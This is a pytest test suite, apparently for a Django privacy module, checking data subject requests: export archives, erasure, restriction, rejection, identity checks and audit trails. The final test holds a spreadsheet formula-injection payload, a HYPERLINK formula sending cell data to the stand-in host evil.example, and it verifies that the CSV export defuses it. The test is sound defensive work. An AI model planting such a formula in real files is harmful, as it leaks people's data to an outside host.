"""Each kind of request, carried out through the services, every step audited."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import pytest

from orbis.audit.models import AuditEvent
from orbis.kernel.errors import Conflict, ValidationError
from orbis.kernel.registry import registry
from orbis.privacy.requests import querysets, services
from orbis.privacy.requests.export import export_zip
from orbis.privacy.requests.models import DataSubjectRequest, SuppressionEntry

pytestmark = pytest.mark.django_db


def actions() -> list[str]:
    return list(AuditEvent.objects.order_by("seq").values_list("action", flat=True))


@pytest.mark.parametrize("kind", ["access", "portability"])
def test_access_export_zip_has_json_and_csv_per_app(
    dpo: Any, german: Any, open_request: Any, kind: str
) -> None:
    reads: list[tuple[str, list[str], str]] = []
    observer = lambda user, target, ids, channel: reads.append((target, ids, channel))  # noqa: E731
    registry.register_read_observer(observer)
    try:
        request = open_request(dpo, german, kind, verified=False)
        services.ask_for_identity_proof(request, "email_on_file", actor=dpo)
        with pytest.raises(Conflict):
            export_zip(dpo, request)
        services.verify_identity(request, "email_on_file", actor=dpo)
        with pytest.raises(Conflict):  # nothing was handed out yet
            services.complete_request(request, actor=dpo)
        filename, content = export_zip(dpo, request)
    finally:
        registry.read_observers.remove(observer)

    assert filename == f"personal-data-{request.reference}.zip"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = set(archive.namelist())
        customers = json.loads(archive.read("customers.json"))
        csv_text = archive.read("customers.csv").decode()
    assert {"manifest.json", "customers.json", "customers.csv"} <= names
    assert {f"{label}.json" for label in registry.personal_data_handlers} <= names
    assert customers["customers.contact"][0]["family_name"] == "Becker"
    assert "jana.becker@example.de" in csv_text
    assert ("customers.contact", [str(german.pk)], "export") in reads
    services.complete_request(request, actor=dpo)
    assert DataSubjectRequest.objects.get(pk=request.pk).status == "completed"
    steps = [a for a in actions() if a.startswith("privacy_requests.")]
    assert steps[-6:] == [
        "privacy_requests.identity_proof_requested",
        "privacy_requests.export_refused",
        "privacy_requests.identity_verified",
        "privacy_requests.completion_refused",
        "privacy_requests.export_downloaded",
        "privacy_requests.request_completed",
    ]


def test_rectification_records_completion(dpo: Any, german: Any, open_request: Any) -> None:
    request = open_request(dpo, german, "rectification")

    services.complete_request(request, "Family name corrected", actor=dpo)

    request.refresh_from_db()
    assert (request.status, request.outcome, request.closed_by) == (
        "completed",
        "Family name corrected",
        dpo,
    )
    assert actions()[-1] == "privacy_requests.request_completed"


def test_erasure_anonymises_and_suppresses(dpo: Any, german: Any, open_request: Any) -> None:
    request = open_request(dpo, german, "erasure")

    services.erase(request, actor=dpo)

    german.refresh_from_db()
    assert german.given_name == "" and german.family_name.startswith("Erased ")
    assert german.is_archived and not german.points.exists()
    assert querysets.is_erased(german)
    assert set(SuppressionEntry.objects.values_list("kind", flat=True)) == {"email", "phone"}
    event = AuditEvent.objects.get(action="privacy_requests.request_completed")
    assert event.changes["suppressed"] == 2 and "customers" in event.changes["apps"]
    assert "becker" not in json.dumps(event.changes).casefold()


def test_erasing_twice_is_refused_nothing_changes(dpo: Any, german: Any, open_request: Any) -> None:
    first = open_request(dpo, german, "erasure")
    second = open_request(dpo, german, "erasure")
    services.erase(first, actor=dpo)
    german.refresh_from_db()
    updated = german.updated_at

    with pytest.raises(Conflict):
        services.erase(second, actor=dpo)
    with pytest.raises(ValidationError) as refused:
        open_request(dpo, german, "erasure")

    assert "contact" in refused.value.errors
    german.refresh_from_db()
    assert german.updated_at == updated
    assert DataSubjectRequest.objects.get(pk=second.pk).status == "in_progress"
    assert AuditEvent.objects.filter(action="privacy_requests.erasure_refused").count() == 1
    assert AuditEvent.objects.filter(action="privacy_requests.request_refused").count() == 1


def test_erasure_before_verification_is_refused(dpo: Any, german: Any, open_request: Any) -> None:
    request = open_request(dpo, german, "erasure", verified=False)

    with pytest.raises(Conflict):
        services.erase(request, actor=dpo)

    german.refresh_from_db()
    assert german.family_name == "Becker" and german.points.count() == 2
    assert actions()[-1] == "privacy_requests.completion_refused"


def test_restriction_flags_the_contact(dpo: Any, german: Any, open_request: Any) -> None:
    assert not querysets.is_restricted(german)
    request = open_request(dpo, german, "restriction")

    services.complete_request(request, actor=dpo)

    assert querysets.is_restricted(german)
    services.lift_restriction(german, actor=dpo)
    assert not querysets.is_restricted(german)
    assert actions()[-1] == "privacy_requests.restriction_lifted"


def test_rejection_needs_a_reason_and_closes(dpo: Any, german: Any, open_request: Any) -> None:
    request = open_request(dpo, german, "access", verified=False)
    with pytest.raises(ValidationError):
        services.reject_request(request, "", actor=dpo)

    services.reject_request(request, "Identity not proven after two reminders", actor=dpo)

    request.refresh_from_db()
    assert request.status == "rejected"
    with pytest.raises(Conflict):
        services.verify_identity(request, "email_on_file", actor=dpo)


def test_the_access_export_csv_cannot_run_a_formula(
    dpo: Any, make_contact: Any, admin: Any, open_request: Any
) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    person = make_contact(admin, given_name="Eve", family_name=attack)
    request = open_request(dpo, person, "access")

    _, content = export_zip(dpo, request)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        rows = list(csv.reader(io.StringIO(archive.read("customers.csv").decode())))
        exported = json.loads(archive.read("customers.json"))
    assert ["customers.contact.0.family_name", "'" + attack] in rows
    assert exported["customers.contact"][0]["family_name"] == attack  # JSON keeps the value
